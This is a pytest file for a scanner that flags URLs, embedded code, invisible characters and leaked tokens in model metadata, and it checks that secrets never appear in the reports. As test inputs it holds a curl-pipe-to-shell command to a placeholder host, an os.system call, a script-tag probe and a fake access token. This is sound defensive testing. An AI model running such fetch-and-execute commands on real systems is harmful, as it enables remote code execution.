"""Metadata is text: what in it is worth knowing is noted, and never shown in full if it is secret."""

import pytest

from assaymark.inspection import Level
from assaymark.scan.weights._words import judge_texts, short

TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3rS5tU7vW9xY1zA2b"


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("see https://x.example/a for more", "metadata-url"),
        ("import os\nos.system('true')", "metadata-code"),
        ("curl https" + "://x.example/i | sh", "metadata-code"),
        ("<script>alert(1)</script>", "metadata-code"),
        ("hello\u200b\u2060world", "metadata-hidden-text"),
        (f"the token {TOKEN} is in use", "metadata-secret"),
    ],
)
def test_signs_are_noted(text: str, rule: str) -> None:
    """Addresses, code, invisible characters and credentials, all of them notes."""
    found = list(judge_texts([("license", text)]))
    assert rule in {h.rule for h in found}
    assert {h.level for h in found} == {Level.NOTE}
    assert not any(TOKEN in h.message + h.evidence for h in found)


@pytest.mark.parametrize(
    "text", ["", "apache-2.0", "A model for evaluating execution plans (v1.0)", "x" * 100_000]
)
def test_ordinary_words_are_silent(text: str) -> None:
    """Licences, names, descriptions."""
    assert list(judge_texts([("general.name", text)])) == []


def test_long_text_is_cut_and_escaped() -> None:
    """What is shown is one line without control characters."""
    assert short("a\nb\x1b[31m") == "a\\nb\\x1b[31m"
    assert len(short("x" * 500)) == 120
